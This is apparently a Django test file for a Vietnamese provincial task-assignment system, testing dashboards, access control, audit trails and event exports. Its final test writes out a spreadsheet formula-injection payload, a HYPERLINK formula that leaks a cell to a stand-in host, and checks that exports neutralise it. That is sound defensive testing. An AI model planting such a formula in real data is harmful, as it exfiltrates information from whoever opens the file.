from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

from openpyxl import load_workbook

from congvu.org.models import today
from congvu.tasks import actions as A
from congvu.tasks.events import TaskEventType
from congvu.web.tests.tasks_helpers import assign, sent_back, to_construction


def _ping_pong(org):  # type: ignore[no-untyped-def]
    return sent_back(org)


def test_the_province_dashboard_ranks_units_and_draws_the_hand_overs(signed_in, org):
    _ping_pong(org)
    body = signed_in("lanh_dao").get("/toan-tinh/").content.decode()
    assert "Xếp hạng đơn vị theo tỷ lệ đúng hạn" in body
    assert "Sở Tài chính" in body and "Sở Xây dựng" in body
    assert body.count("marker-end=") == 2  # Tài chính → Xây dựng and back


def test_the_hand_over_table_gives_each_pairs_way_back_and_share(signed_in, org):
    _ping_pong(org)
    _ping_pong(org)
    A.do_transfer(
        assign(org, title="Chuyển một chiều"),
        org.gd_a,
        to_unit=org.so_b,
        to_person=org.gd_b,
        reason_code="competence",
        reason="Thuộc Sở Xây dựng",
    )
    response = signed_in("lanh_dao").get("/toan-tinh/")
    # Tài chính → Xây dựng 3 transfers, back 2 returns: of the 5 hand-overs, 60 % and 40 %;
    # (from, to, transfers, returns, way back, share).
    assert response.context["edges"][:2] == [
        ("Sở Tài chính", "Sở Xây dựng", 3, 0, 2, 0.6),
        ("Sở Xây dựng", "Sở Tài chính", 0, 2, 3, 0.4),
    ]
    body = response.content.decode()
    assert "Chiều ngược lại" in body and "Tỷ lệ" in body and "60,0 %" in body


def test_the_unit_dashboard_draws_the_hand_overs_between_its_divisions(signed_in, org):
    task = assign(org, by="gd_a", unit="a1", lead="tp_a1", title="Việc chuyển giữa hai phòng")
    A.do_transfer(
        task, org.tp_a1, to_unit=org.a2, to_person=org.bob, reason_code="competence", reason="x"
    )
    A.do_return(task, org.bob, reason="Thuộc Phòng Ngân sách")
    response = signed_in("gd_a").get(f"/don-vi/{org.so_a.pk}/")
    # There and back: a transfer one way, a return the other, half of the hand-overs each.
    assert sorted(response.context["edges"]) == [
        ("Phòng Ngân sách", "Phòng Đầu tư", 1, 0, 1, 0.5),
        ("Phòng Đầu tư", "Phòng Ngân sách", 0, 1, 1, 0.5),
    ]
    body = response.content.decode()
    assert body.count("marker-end=") == 2 and "Chiều ngược lại" in body
    # A division has no divisions under it: no picture on its dashboard.
    division = signed_in("tp_a1").get(f"/don-vi/{org.a1.pk}/").content.decode()
    assert "marker-end=" not in division


def _transfer_on(org, day: datetime, title: str):  # type: ignore[no-untyped-def]
    """Tài chính hands a task to Xây dựng on `day` (assigned and accepted an hour before)."""
    task = A.do_assign(
        assigner=org.lanh_dao,
        title=title,
        lead_unit=org.so_a,
        lead_person=org.gd_a,
        working_days=10,
        source_number="1713/UBND-NCKSTTHC",
        at=day - timedelta(hours=2),
    )
    A.do_accept(task, org.gd_a, at=day - timedelta(hours=1))
    to_construction(task, org, at=day)
    return task


def test_the_hand_over_network_counts_only_the_chosen_period(signed_in, org):
    from django.utils import timezone

    now = timezone.now()
    long_ago = now - timedelta(days=200)
    _transfer_on(org, long_ago, "Chuyển từ lâu")
    _transfer_on(org, now, "Chuyển hôm nay")
    client = signed_in("lanh_dao")
    # By default the quarter so far: today's hand-over only.
    response = client.get("/toan-tinh/")
    assert response.context["handovers_total"] == 1
    assert response.context["edges"] == [("Sở Tài chính", "Sở Xây dựng", 1, 0, 0, 1.0)]
    # A period around the old one counts it and not today's.
    old = timezone.localdate(long_ago)
    period = f"?tu={old - timedelta(days=1):%Y-%m-%d}&den={old + timedelta(days=1):%Y-%m-%d}"
    response = client.get(f"/toan-tinh/{period}")
    assert response.context["handovers_total"] == 1
    assert response.context["network_start"] == old - timedelta(days=1)
    assert f'value="{old:%Y}-' in response.content.decode()  # the form shows the period
    # A period with no hand-over at all: nothing drawn, and said so.
    response = client.get("/toan-tinh/?tu=2001-01-01&den=2001-03-31")
    assert response.context["handovers_total"] == 0 and response.context["network_chart"] is None
    assert client.get("/toan-tinh/?tu=2026-05-01&den=2026-04-01").status_code == 400


def test_a_return_is_counted_as_a_return_not_as_a_transfer(signed_in, org):
    task = _ping_pong(org)  # Tài chính transfers to Xây dựng, which returns it
    to_construction(task, org, reason="Gửi lại")
    response = signed_in("lanh_dao").get("/toan-tinh/")
    assert response.context["edges"] == [
        ("Sở Tài chính", "Sở Xây dựng", 2, 0, 1, 2 / 3),
        ("Sở Xây dựng", "Sở Tài chính", 0, 1, 2, 1 / 3),
    ]
    assert response.context["returns_total"] == 1
    assert response.context["returns_share"] == 1 / 3
    body = response.content.decode()
    assert "Trả lại" in body and "trong đó 1 lần trả lại (33,3 %)" in body
    # The unit dashboard counts a period too.
    unit = signed_in("gd_a").get(f"/don-vi/{org.so_a.pk}/?tu=2001-01-01&den=2001-12-31")
    assert unit.status_code == 200 and unit.context["network_end"].year == 2001


def test_only_leaders_hr_and_inspectors_see_the_province_dashboard(signed_in, org):
    assert signed_in("gd_a").get("/toan-tinh/").status_code == 403
    assert signed_in("alice").get("/toan-tinh/").status_code == 403
    assert signed_in("noi_vu").get("/toan-tinh/").status_code == 200


def test_a_head_sees_their_units_dashboard_and_drills_down_to_a_person(signed_in, org):
    assign(org, by="lanh_dao", unit="a1", lead="alice", title="Việc của phòng")
    client = signed_in("gd_a")
    assert client.get("/don-vi/").status_code == 302
    body = client.get(f"/don-vi/{org.so_a.pk}/").content.decode()
    assert "Hoàng Thị An" in body
    body = client.get(f"/viec/?don_vi={org.so_a.pk}&nguoi={org.alice.pk}").content.decode()
    assert "Việc của phòng" in body


def test_the_unit_dashboard_dates_the_last_activity_of_an_idle_task(signed_in, org):
    from datetime import timedelta

    from django.utils import timezone
    from django.utils.formats import date_format

    from congvu.tasks import actions as A

    long_ago = timezone.now() - timedelta(days=40)
    task = A.do_assign(
        assigner=org.lanh_dao,
        title="Việc để lâu không ai động đến",
        source_number="1713/UBND-NCKSTTHC",
        lead_unit=org.so_a,
        lead_person=org.gd_a,
        deadline=timezone.localdate() + timedelta(days=30),
        at=long_ago,
    )
    body = signed_in("gd_a").get(f"/don-vi/{org.so_a.pk}/").content.decode()
    assert "Việc để lâu không ai động đến" in body
    shown = date_format(timezone.localtime(task.last_event_at).date(), "SHORT_DATE_FORMAT")
    assert f"diễn biến cuối {shown}" in body


def test_a_head_cannot_open_another_units_dashboard(signed_in, org):
    assert signed_in("gd_a").get(f"/don-vi/{org.so_b.pk}/").status_code == 403
    assert signed_in("alice").get(f"/don-vi/{org.a1.pk}/").status_code == 403


def test_the_inspector_reads_the_audit_trail_and_the_log_is_intact(signed_in, org):
    task = _ping_pong(org)
    client = signed_in("thanh_tra")
    body = client.get("/thanh-tra/").content.decode()
    assert "Thuộc Sở Xây dựng" in body and f"#{task.pk}.3" in body
    body = client.get("/thanh-tra/kiem-tra/", headers={"HX-Request": "true"}).content.decode()
    assert "Nhật ký nguyên vẹn" in body


def test_the_inspector_is_read_only(signed_in, org):
    task = _ping_pong(org)
    body = signed_in("thanh_tra").get(f"/viec/{task.pk}/").content.decode()
    assert "Bạn không có thao tác nào trên nhiệm vụ này." in body
    assert signed_in("thanh_tra").get("/viec/giao/").status_code == 403


def test_exports_hold_the_scope_events_in_csv_xlsx_and_xes(signed_in, org):
    task = _ping_pong(org)
    client = signed_in("thanh_tra")
    text = b"".join(client.get("/thanh-tra/xuat/csv/").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Số nhiệm vụ", "Thứ tự sự kiện", "Thời điểm"]
    assert [r[3] for r in rows[1:]] == ["Giao việc", "Tiếp nhận", "Chuyển xử lý", "Trả lại"]
    book = load_workbook(io.BytesIO(client.get("/thanh-tra/xuat/xlsx/").content))
    sheet = book.worksheets[0]
    assert [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        r[3] for r in rows[1:]
    ]
    xes = b"".join(client.get("/thanh-tra/xuat/xes/").streaming_content).decode()
    assert xes.count("<event>") == 4 and f'value="{task.pk}"' in xes
    assert signed_in("alice").get("/thanh-tra/xuat/csv/").status_code == 403


def test_exports_hold_the_filtered_events_with_typed_cells(signed_in, org):
    task = _ping_pong(org)
    other = assign(org, title="Việc khác")
    client = signed_in("thanh_tra")
    # The page's filter travels to the export links.
    body = client.get(f"/thanh-tra/?nhiem_vu={task.pk}&loai=").content.decode()
    assert f"/thanh-tra/xuat/xlsx/?nhiem_vu={task.pk}" in body
    book = load_workbook(
        io.BytesIO(client.get(f"/thanh-tra/xuat/xlsx/?nhiem_vu={task.pk}").content)
    )
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[0][:4] == ("Số nhiệm vụ", "Thứ tự sự kiện", "Thời điểm", "Sự kiện")
    assert {r[0] for r in rows[1:]} == {task.pk} and other.pk != task.pk
    assert [r[1] for r in rows[1:]] == [1, 2, 3, 4]  # numbers, not text
    assert all(isinstance(r[2], datetime) for r in rows[1:])
    text = b"".join(
        client.get(f"/thanh-tra/xuat/csv/?loai={TaskEventType.ACCEPTED.value}").streaming_content
    ).decode("utf-8-sig")
    assert [r[3] for r in csv.reader(io.StringIO(text))][1:] == ["Tiếp nhận"]
    tomorrow = (today() + timedelta(days=1)).strftime("%d/%m/%Y")
    text = b"".join(client.get(f"/thanh-tra/xuat/csv/?tu={tomorrow}").streaming_content).decode(
        "utf-8-sig"
    )
    assert len(list(csv.reader(io.StringIO(text)))) == 1  # the header only


def test_a_form_posted_after_the_session_expired_comes_back_filled(signed_in, client, org):
    task = assign(org)
    client = signed_in("gd_a")
    client.logout()
    form = {
        "action": "decline",
        "version": task.version,
        "reason": "Không thuộc thẩm quyền của Sở",
        "proposed_unit": org.so_b.pk,
    }
    response = client.post(
        f"/viec/{task.pk}/thao-tac/",
        form,
        headers={"Referer": f"http://testserver/viec/{task.pk}/"},
    )
    assert response.status_code == 302 and "/dang-nhap/" in response["Location"]
    from congvu.testing import PASSWORD

    client.post("/dang-nhap/", {"username": "gd_a", "password": PASSWORD})
    body = client.get(f"/viec/{task.pk}/").content.decode()
    assert "Không thuộc thẩm quyền của Sở" in body
    assert '<details id="act-decline" open>' in body


def test_exports_never_turn_user_text_into_a_formula(signed_in, org):
    # Issue #12, break 3: a reason typed as a formula came out live in the XLSX (type "f") and
    # as-is in the CSV.
    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm")'
    task = assign(org)
    A.do_accept(task, org.gd_a)
    A.do_transfer(
        task, org.gd_a, to_unit=org.so_b, to_person=org.gd_b, reason_code="competence", reason=evil
    )
    A.do_return(task, org.gd_b, reason="+1-2")
    client = signed_in("thanh_tra")
    text = b"".join(client.get("/thanh-tra/xuat/csv/").streaming_content).decode("utf-8-sig")
    reasons = [r[10] for r in csv.reader(io.StringIO(text))][1:]
    assert "'" + evil in reasons and "'+1-2" in reasons
    assert not any(r.startswith(("=", "+", "-", "@")) for r in reasons)
    book = load_workbook(io.BytesIO(client.get("/thanh-tra/xuat/xlsx/").content))
    cells = [row[10] for row in book.worksheets[0].iter_rows(min_row=2)]
    assert [c.data_type for c in cells if c.value] == ["s", "s"]
    assert {c.value for c in cells if c.value} == {evil, "+1-2"}
